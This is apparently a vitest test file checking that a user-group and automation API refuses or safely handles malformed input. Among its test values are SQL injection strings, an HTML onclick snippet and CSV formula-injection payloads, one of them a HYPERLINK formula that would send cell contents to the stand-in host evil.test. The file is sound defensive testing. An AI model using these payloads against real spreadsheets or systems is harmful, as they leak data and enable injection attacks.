import { beforeAll, describe, expect, it } from 'vitest';
import { SECRET_KEY } from './support/api';
import {
  badBodies,
  badInputApi,
  endpoint,
  expectCovers,
  expectServesGoodRequests,
  itRejects,
  itTolerates,
  long,
  read,
  type RejectedCase,
  type ToleratedCase,
} from './support/badInputCases';

// Bad input for members (list, add, remove, CSV export) and automations, and an export of
// members with hostile names. See support/badInputCases.ts.
const api = badInputApi();

const list = (query: string) => read(`/user-groups/pro/users?${query}`);
const paging = (query: string, field: string) =>
  list(query)(query, 400, 'validation_failed', field);
const listing: RejectedCase[] = [
  paging('page=0', 'page'),
  paging('page=-1', 'page'),
  paging('page=1e9', 'page'),
  paging('page=1000000000', 'page'),
  paging('page=abc', 'page'),
  paging('page_size=0', 'page_size'),
  paging('page_size=1001', 'page_size'),
  paging('page_size=abc', 'page_size'),
  paging('page_size=-5', 'page_size'),
  paging('sort_attr=password', 'sort_attr'),
  paging('sort_dir=sideways', 'sort_dir'),
  paging(`search_text=${long(10_000)}`, 'search_text'),
  read('/user-groups/ghosts/users')('an unknown group', 404, 'user_group_not_found', 'ghosts'),
  read('/user-groups/1002/users')(
    'a legacy id',
    404,
    'user_group_not_found',
    'legacy-user-groups/1002',
  ),
  read('/user-groups/%E0%A4%A/users')('a malformed escape', 400, 'validation_failed', 'path'),
];

const add = endpoint('POST', '/user-groups/staff/users');
const adding: RejectedCase[] = [
  ...badBodies(add),
  add.invalid('nobody to add', {}, ['user_ids', 'branch_ids', 'group_ids']),
  add.invalid('three empty lists', { user_ids: [], branch_ids: [], group_ids: [] }, 'user_ids'),
  add.invalid('user_ids is a string', { user_ids: 'u_ada' }, 'user_ids'),
  add.invalid('user_ids holds a number', { user_ids: [1] }, 'user_ids'),
  add.invalid('user_ids holds an empty string', { user_ids: [''] }, 'user_ids'),
  add.invalid('user_ids holds null', { user_ids: [null] }, 'user_ids'),
  add.invalid('5,001 user ids', { user_ids: Array(5001).fill('u_ada') }, ['user_ids', '5000']),
  add.invalid('branch_ids is a string', { branch_ids: 'london' }, 'branch_ids'),
  add.invalid('group_ids is an object', { group_ids: {} }, 'group_ids'),
  add.invalid('an unknown field', { users: ['u_ada'] }, 'users'),
  add('unknown users', { user_ids: ['u_ada', 'u_ghost', 'u_nobody'] }, 404, 'user_not_found', [
    'u_ghost',
    'u_nobody',
    'nothing was added',
  ]),
  add('SQL as a user id', { user_ids: ["u_ada' OR '1'='1"] }, 404, 'user_not_found', "u_ada' OR"),
  add('an emoji user id', { user_ids: ['🦄'] }, 404, 'user_not_found', '🦄'),
  add('an unknown group to copy', { group_ids: ['ghosts'] }, 404, 'user_group_not_found', [
    'group_ids',
    'ghosts',
  ]),
  add('a legacy id to copy', { group_ids: ['1002'] }, 404, 'user_group_not_found', 'group_ids'),
  endpoint('POST', '/user-groups/uk-users/users')(
    'an automatic group',
    { user_ids: ['u_ada'] },
    409,
    'group_is_automatic',
    'rule set',
  ),
  endpoint('POST', '/user-groups/ghosts/users')(
    'an unknown group',
    { user_ids: ['u_ada'] },
    404,
    'user_group_not_found',
    'ghosts',
  ),
];

const remove = endpoint('DELETE', '/user-groups/customer/users');
const removing: RejectedCase[] = [
  ...badBodies(remove),
  remove.invalid('no selector', {}, ['exactly one', 'none']),
  remove.invalid('two selectors', { user_ids: ['u_ada'], user_all: true }, 'user_ids and user_all'),
  remove.invalid('user_all is false', { user_all: false }, 'user_all'),
  remove.invalid('user_all is a string', { user_all: 'true' }, 'user_all'),
  remove.invalid('user_ids is a string', { user_ids: 'u_ada' }, 'user_ids'),
  remove.invalid('user_ids holds an empty string', { user_ids: [''] }, 'user_ids'),
  remove.invalid('5,001 user ids', { user_ids: Array(5001).fill('u_ada') }, ['user_ids', '5000']),
  remove.invalid('an empty filter', { user_filters: {} }, 'user_filters.search'),
  remove.invalid('an empty search', { user_filters: { search: '' } }, 'user_filters.search'),
  remove.invalid('a blank search', { user_filters: { search: '   ' } }, [
    'user_filters',
    'user_all',
  ]),
  remove.invalid('a numeric search', { user_filters: { search: 5 } }, 'user_filters.search'),
  remove.invalid('a 10,000-character search', { user_filters: { search: long(10_000) } }, [
    'user_filters.search',
    '200',
  ]),
  remove.invalid('an unknown filter', { user_filters: { search: 'a', role: 'x' } }, 'role'),
  remove.invalid('a filter that is a string', { user_filters: 'ada' }, 'user_filters'),
  remove.invalid('an unknown field', { user_id: 'u_ada' }, 'user_id'),
  endpoint('DELETE', '/user-groups/uk-users/users')(
    'an automatic group',
    { user_all: true },
    409,
    'group_is_automatic',
    'rule set',
  ),
  endpoint('DELETE', '/user-groups/ghosts/users')(
    'an unknown group',
    { user_all: true },
    404,
    'user_group_not_found',
    'ghosts',
  ),
];

const csvOf = (query: string) => read(`/user-groups/customer/export-users?${query}`);
const exportSwitch = (query: string, field: string) =>
  csvOf(query)(query, 400, 'validation_failed', field);
const exporting: RejectedCase[] = [
  exportSwitch('userid=maybe', 'userid'),
  exportSwitch('firstname=yes', 'firstname'),
  exportSwitch('email=FALSE', 'email'),
  exportSwitch('include_header=2', 'include_header'),
  exportSwitch('delimiter=%3B%3B', 'delimiter'),
  exportSwitch('delimiter=%09', 'delimiter'),
  exportSwitch('delimiter=comma', 'delimiter'),
  exportSwitch('userid=false&firstname=false&lastname=false&email=false', 'at least one'),
  read('/user-groups/ghosts/export-users')(
    'an unknown group',
    404,
    'user_group_not_found',
    'ghosts',
  ),
  read('/user-groups/1001/export-users')(
    'a legacy id',
    404,
    'user_group_not_found',
    'legacy-user-groups',
  ),
  read('/user-groups/%E0%A4%A/export-users')(
    'a malformed escape',
    400,
    'validation_failed',
    'path',
  ),
];

const runs = (query: string) => read(`/automations/runs?${query}`);
const automation = endpoint('POST', '/automations');
const edit = endpoint('PATCH', '/automations/welcome-plus');
const welcome = (fields: Record<string, unknown>) => ({
  name: 'Welcome',
  trigger: { event: 'added_to', group: 'newsletter' },
  action: { type: 'email', template: 'welcome' },
  ...fields,
});
const trigger = (fields: Record<string, unknown>) =>
  welcome({ trigger: { event: 'added_to', group: 'newsletter', ...fields } });
const automations: RejectedCase[] = [
  runs('userId=')('an empty userId', 400, 'validation_failed', 'userId'),
  runs('userId=u_ghost')('an unknown user', 404, 'user_not_found', 'u_ghost'),
  runs('userId=%F0%9F%A6%84')('an emoji user', 404, 'user_not_found', '🦄'),
  runs('userId=u_ada%00')('a NUL after the id', 404, 'user_not_found', 'u_ada'),
  runs(`userId=${long(10_000)}`)('a 10,000-character id', 404, 'user_not_found', long(10_000)),
  read('/automations/welcome-plus/runs')(
    'an undocumented path',
    404,
    'not_found',
    '/v1/automations/',
  ),
  read('/automations/ghost')('an unknown automation', 404, 'automation_not_found', 'ghost'),
  read('/automations/ghost', 'secret', 'DELETE')(
    'deleting an unknown automation',
    404,
    'automation_not_found',
    'ghost',
  ),
  read('/automations', 'secret', 'DELETE')('an undocumented method', 404, 'not_found', 'DELETE'),
  ...badBodies(automation),
  automation.invalid('no name', welcome({ name: undefined }), 'name'),
  automation.invalid('name is empty', welcome({ name: '' }), 'name'),
  automation.invalid('name is a number', welcome({ name: 42 }), 'name'),
  automation.invalid('name of 10,000 characters', welcome({ name: long(10_000) }), ['name', '200']),
  automation.invalid('name of 201 emoji', welcome({ name: '🦄'.repeat(201) }), '(got 201)'),
  automation.invalid('no trigger', welcome({ trigger: undefined }), 'trigger'),
  automation.invalid('trigger is a string', welcome({ trigger: 'on join' }), 'trigger'),
  automation.invalid('an unknown trigger field', trigger({ when: 'now' }), ['trigger', 'when']),
  automation.invalid('an unknown event', trigger({ event: 'joined' }), 'trigger.event'),
  automation.invalid('no trigger group', trigger({ group: undefined }), 'trigger.group'),
  automation(
    'an unknown trigger group',
    trigger({ group: 'ghosts' }),
    404,
    'user_group_not_found',
    ['trigger.group', 'ghosts'],
  ),
  automation(
    'a legacy id as the group',
    trigger({ group: '1004' }),
    404,
    'user_group_not_found',
    'trigger.group',
  ),
  automation(
    'an unknown required group',
    trigger({ requireIn: ['pro', 'ghosts'] }),
    404,
    'user_group_not_found',
    ['trigger.requireIn[1]', 'ghosts'],
  ),
  automation.invalid(
    '21 required groups',
    trigger({ requireIn: Array(21).fill('pro') }),
    'trigger.requireIn',
  ),
  automation.invalid(
    'requireNotIn is a number',
    trigger({ requireNotIn: 42 }),
    'trigger.requireNotIn',
  ),
  automation.invalid('no action', welcome({ action: undefined }), 'action'),
  automation.invalid(
    'an unknown action type',
    welcome({ action: { type: 'sms', template: 't' } }),
    'action.type',
  ),
  automation.invalid(
    'a template of 10,000 characters',
    welcome({ action: { type: 'email', template: long(10_000) } }),
    'action.template',
  ),
  automation.invalid(
    'an unknown action field',
    welcome({ action: { type: 'email', template: 't', to: 'x' } }),
    ['action', '"to"'],
  ),
  automation.invalid('an unknown field', welcome({ schedule: 'daily' }), 'schedule'),
  automation.invalid('enabled is a string', welcome({ enabled: 'yes' }), 'enabled'),
  ...badBodies(edit),
  edit.invalid('an unknown field', { schedule: 'daily' }, 'schedule'),
  edit.invalid('enabled is null', { enabled: null }, 'enabled'),
  edit.invalid('name is empty', { name: '' }, 'name'),
  edit.invalid('trigger without a group', { trigger: { event: 'added_to' } }, 'trigger.group'),
  edit.invalid('action is a string', { action: 'email' }, 'action'),
  edit(
    'an unknown trigger group',
    { trigger: { event: 'added_to', group: 'ghosts' } },
    404,
    'user_group_not_found',
    ['trigger.group', 'ghosts'],
  ),
  endpoint('PATCH', '/automations/ghost')(
    'editing an unknown automation',
    { enabled: false },
    404,
    'automation_not_found',
    'ghost',
  ),
];

const allRejected = [...listing, ...adding, ...removing, ...exporting, ...automations];

const empty = (body: unknown) => expect(body).toMatchObject({ data: [], total: 0 });
const tolerated: ToleratedCase[] = [
  {
    name: 'a page past the end is empty, with the true total',
    method: 'GET',
    path: '/user-groups/customer/users?page=1000000',
    expectBody: (body) => expect(body).toMatchObject({ data: [], total: 2 }),
  },
  {
    name: 'HTML as a search',
    method: 'GET',
    path: '/user-groups/pro/users?search_text=%3Cb%3E',
    expectBody: empty,
  },
  {
    name: 'SQL as a search',
    method: 'GET',
    path: "/user-groups/pro/users?search_text='%20OR%201%3D1",
    expectBody: empty,
  },
  {
    name: 'the automation list takes no parameters and ignores unknown ones',
    method: 'GET',
    path: '/automations?page=0&userId=u_ghost',
    expectBody: async (body) => {
      const plain = await api.call('GET', '/automations', { key: SECRET_KEY });
      expect(plain.status).toBe(200);
      expect(body).toEqual(plain.body);
    },
  },
];

describe('bad input is refused, named, documented, and changes nothing', () => {
  itRejects(api, allRejected);
});

describe('odd but harmless reads answer 200 and change nothing', () => {
  itTolerates(api, tolerated);
});

describe('CSV export of members with hostile names', () => {
  // Each value is stored and served verbatim as JSON; only the CSV cell is guarded (a leading
  // `'` for formula starts) and quoted (quotes doubled) where RFC 4180 needs it.
  const hostile = [
    [
      'a formula with quotes and commas',
      '=HYPERLINK("http://evil.test?"&A1,"x")',
      `"'=HYPERLINK(""http://evil.test?""&A1,""x"")"`,
    ],
    ['a plus formula', '+SUM(1;2)', `'+SUM(1;2)`],
    ['a minus formula', '-2+3', `'-2+3`],
    ['an @ command', '@cmd', `'@cmd`],
    ['a leading tab', '\tTab', `'\tTab`],
    ['a leading CR', '\rCR', `"'\rCR"`],
    ['quotes inside', 'Say "hi"', `"Say ""hi"""`],
    ['HTML', '<b onclick="x()">Bold</b>', `"<b onclick=""x()"">Bold</b>"`],
  ] as const;
  const rows = hostile.map(
    ([label, value, cell], i) => [label, value, cell, `csv-0${i + 1}`] as const,
  );
  /** Users `[id, name]` (first and last name), in a new group `slug`, exported as CSV. */
  async function exportMembers(slug: string, members: readonly (readonly [string, string])[]) {
    for (const [id, value] of members) {
      const response = await api.send({
        method: 'PUT',
        path: `/users/${id}`,
        body: { firstname: value, lastname: value },
      });
      expect(response.status).toBe(201);
    }
    await api.send({ method: 'POST', path: '/user-groups', body: { slug, name: 'CSV' } });
    const added = await api.send({
      method: 'POST',
      path: `/user-groups/${slug}/users`,
      body: { user_ids: members.map(([id]) => id) },
    });
    expect((await added.json()).added).toBe(members.length);
    const request = {
      method: 'GET',
      path: `/user-groups/${slug}/export-users?email=false`,
    } as const;
    const response = await api.send(request);
    expect(await api.contractProblem(request, response)).toBeNull();
    expect(response.headers.get('content-type')).toContain('text/csv');
    return response.text();
  }

  async function expectExported(
    csv: string,
    slug: string,
    id: string,
    value: string,
    cell: string,
  ) {
    expect(csv).toContain(`\r\n${id},${cell},${cell}\r\n`);
    const members = await api.send({ method: 'GET', path: `/user-groups/${slug}/users` });
    const row = (await members.json()).data.find((m: { id: string }) => m.id === id);
    expect(row).toMatchObject({ firstname: value, lastname: value });
  }

  const shared = rows;
  let csv = '';
  beforeAll(async () => {
    csv = await exportMembers(
      'csv-export',
      shared.map(([, value, , id]) => [id, value] as const),
    );
  });

  it.each(shared)('%s: stored verbatim, escaped in the CSV', async (_, value, cell, id) => {
    await expectExported(csv, 'csv-export', id, value, cell);
  });

  it('refuses a name holding U+0000 (PostgreSQL cannot store it) and changes nothing', async () => {
    const before = await api.dump();
    const response = await api.send({
      method: 'PUT',
      path: '/users/csv-nul',
      body: { firstname: '\u0000nul', lastname: 'Nul' },
    });
    expect(response.status).toBe(400);
    const { error } = await response.json();
    expect(error).toMatchObject({ code: 'validation_failed', details: { field: 'firstname' } });
    expect(error.message).toContain('U+0000');
    expect(await api.dump()).toEqual(before);
  });

  it('quotes a tab-led cell when tab is the delimiter', async () => {
    const response = await api.send({
      method: 'GET',
      path: '/user-groups/csv-export/export-users?delimiter=tab&lastname=false&email=false',
    });
    expect(await response.text()).toContain(`\r\ncsv-05\t"'\tTab"\r\n`);
  });
});

describe('after every bad request', () => {
  it('the cases reach every operation of this suite', () => {
    expectCovers('members', [...allRejected, ...tolerated]);
  });

  it('still serves good requests', async () => {
    await expectServesGoodRequests(api);
    const request = {
      method: 'POST',
      path: '/user-groups/staff/users',
      body: { user_ids: ['u_alan'] },
    } as const;
    const response = await api.send(request);
    expect(await api.contractProblem(request, response)).toBeNull();
    expect(await response.json()).toMatchObject({ added: 1, unchanged: 0 });
    expect(await api.slugsOf('u_alan')).toContain('staff');
  });
});
